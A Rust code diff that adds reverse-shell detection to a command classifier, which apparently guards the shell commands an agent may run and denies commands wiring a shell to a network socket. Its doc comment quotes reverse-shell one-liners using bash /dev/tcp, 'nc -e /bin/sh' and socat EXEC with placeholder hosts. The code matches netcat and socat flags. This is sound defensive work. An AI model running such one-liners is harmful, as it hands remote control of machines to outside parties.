@@ -494,6 +494,11 @@ pub fn classify(inv: &Invocation, ws: &Workspace) -> Outcome {
     }
     declared_env(inv, &mut out);
     redirects(inv, ws, &mut out);
+    if let Some(why) = reverse_shell(inv) {
+        out.effect("network");
+        out.effect("exec");
+        out.add("net.reverse-shell", why, Decision::Deny, inv.span);
+    }
     let Some(first) = inv.argv.first() else { return out };
     let Some(name) = first.value() else {
         out.effect("opaque");
@@ -1121,6 +1126,53 @@ fn declared_env(inv: &Invocation, out: &mut Outcome) {
             }
         }
     }
+}
+
+/// A shell wired to a network socket: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`,
+/// `socat TCP:h:p EXEC:sh`, `sh < /dev/tcp/h/p`.
+fn reverse_shell(inv: &Invocation) -> Option<String> {
+    let name = inv.name()?;
+    let base = name.rsplit('/').next().unwrap_or(name);
+    let socket = |t: &str| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/");
+    if crate::resolve::is_shell(base) {
+        let wired =
+            inv.redirects.iter().any(|r| r.target.as_ref().is_some_and(|t| socket(t.value().unwrap_or(&t.text))));
+        if wired {
+            return Some(format!("`{base}` reads or writes a network socket: a remote shell"));
+        }
+    }
+    let is_shell_path = |v: &str| crate::resolve::is_shell(v.rsplit('/').next().unwrap_or(v));
+    if matches!(base, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd") {
+        let mut args = inv.argv.iter().skip(1).filter_map(|a| a.value());
+        while let Some(a) = args.next() {
+            let value = match a {
+                "-e" | "-c" | "--exec" | "--sh-exec" => args.next(),
+                v if v.starts_with("--exec=") || v.starts_with("--sh-exec=") => v.split_once('=').map(|(_, x)| x),
+                v if v.starts_with('-') && !v.starts_with("--") && (v.ends_with('e') || v.ends_with('c')) => {
+                    args.next()
+                }
+                v if v.starts_with("-e") && v.len() > 2 => Some(&v[2..]),
+                _ => None,
+            };
+            if let Some(v) = value
+                && (is_shell_path(v.split_whitespace().next().unwrap_or(v)) || a == "-c" || a == "--sh-exec")
+            {
+                return Some(format!("`{base}` hands a shell to a network peer"));
+            }
+        }
+    }
+    if base == "socat" {
+        let up: Vec<String> =
+            inv.argv.iter().skip(1).map(|a| a.value().unwrap_or(&a.text).to_ascii_uppercase()).collect();
+        let runs = up.iter().any(|a| a.starts_with("EXEC:") || a.starts_with("SYSTEM:"));
+        let net = up
+            .iter()
+            .any(|a| a.starts_with("TCP") || a.starts_with("UDP") || a.starts_with("OPENSSL") || a.starts_with("SSL"));
+        if runs && net {
+            return Some("`socat` connects a program to a network socket".to_string());
+        }
+    }
+    None
 }
 
 /// `env`, `printenv`, `set`, `export -p`: the environment often holds tokens.
